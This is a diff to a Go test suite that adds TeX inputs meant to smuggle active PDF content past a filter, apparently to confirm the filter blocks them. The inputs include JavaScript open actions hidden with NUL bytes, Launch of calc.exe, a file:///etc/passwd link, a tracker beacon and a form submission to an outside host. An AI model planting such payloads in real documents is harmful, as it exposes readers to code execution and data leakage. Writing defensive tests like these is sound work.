@@ -300,6 +300,7 @@ func TestNoRuntimeFontGeneration(t *testing.T) {
 func TestAttacksActivePDF(t *testing.T) {
 	c := shared(t)
 	hash := "{\\catcode`\\#=12 \\gdef\\hash{#}}"
+	nul := `{\catcode0=12 `
 	cases := []struct{ name, body string }{
 		{"annotation JavaScript", `\pdfannot width 2cm height 1cm depth 0pt {/Subtype /Link /A << /S /JavaScript /JS (app.alert(1)) >>}x`},
 		{"open action JavaScript", `\pdfcatalog {/OpenAction << /S /JavaScript /JS (app.alert(1)) >>}x`},
@@ -313,6 +314,21 @@ func TestAttacksActivePDF(t *testing.T) {
 		{"javascript URI", `\pdfannot width 2cm height 1cm {/Subtype /Link /A << /S /URI /URI <6A617661736372697074> >>}x`},
 		{"remote go-to", `\pdfannot width 2cm height 1cm {/Subtype /Link /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >>}x`},
 		{"uncompressed objects", `\pdfobjcompresslevel=0 \pdfcompresslevel=0 \pdfcatalog {/OpenAction << /S /JavaScript /JS (app.alert(1)) >>}x`},
+		// A NUL ends a name for a PDF reader: the old scanner read /JavaScript^^@ as another name.
+		{"NUL after JavaScript", nul + `\pdfcatalog{/OpenAction << /S /JavaScript^^@ /JS^^@ (app.alert(1)) >>}}x`},
+		{"NUL in names tree", nul + `\pdfcatalog{/Names << /JavaScript^^@ << /Names [(a) << /S /JavaScript^^@ /JS^^@ (app.alert(1)) >>] >> >>}}x`},
+		{"NUL after Launch", nul + `\pdfcatalog{/OpenAction << /S /Launch^^@ /F (calc.exe) >>}}x`},
+		{"NUL embedded file", nul + `\immediate\pdfobj stream attr {/Type /EmbeddedFile^^@} {hello}\pdfrefobj\pdflastobj}x`},
+		{"NUL uncompressed", nul + `\pdfobjcompresslevel=0 \pdfcatalog{/OpenAction << /S /JavaScript^^@ /JS^^@ (app.alert(1)) >>}}x`},
+		{"indirect javascript URI", `\immediate\pdfobj{(javascript:app.alert(1))}\pdfannot width 2cm height 1cm {/Subtype /Link /A << /S /URI /URI \the\pdflastobj\space 0 R >>}x`},
+		{"indirect file URI uncompressed", `\pdfobjcompresslevel=0 \immediate\pdfobj{(file:///etc/passwd)}\pdfannot width 2cm height 1cm {/Subtype /Link /A << /S /URI /URI \the\pdflastobj\space 0 R >>}x`},
+		{"indirect action name", `\immediate\pdfobj{/Launch}\pdfannot width 2cm height 1cm {/Subtype /Link /A << /S \the\pdflastobj\space 0 R /F (calc.exe) >>}x`},
+		{"open action URI beacon", `\pdfcatalog{/OpenAction << /S /URI /URI (https://tracker.example/opened) >>}x`},
+		{"thread to a file", `\pdfannot width 2cm height 1cm {/Subtype /Link /A << /S /Thread /F (other.pdf) /D 0 >>}x`},
+		{"named action", `\pdfannot width 2cm height 1cm {/Subtype /Link /A << /S /Named /N /Print >>}x`},
+		{"page additional action", `\pdfpageattr{/AA << /O << /S /GoTo /D [0 /Fit] >> >>}x`},
+		{"acroform", `\pdfcatalog{/AcroForm << /Fields [] >>}x`},
+		{"submit form", `\pdfannot width 2cm height 1cm {/Subtype /Link /A << /S /SubmitForm /F (https://x.example/) >>}x`},
 	}
 	for _, tc := range cases {
 		t.Run(tc.name, func(t *testing.T) {
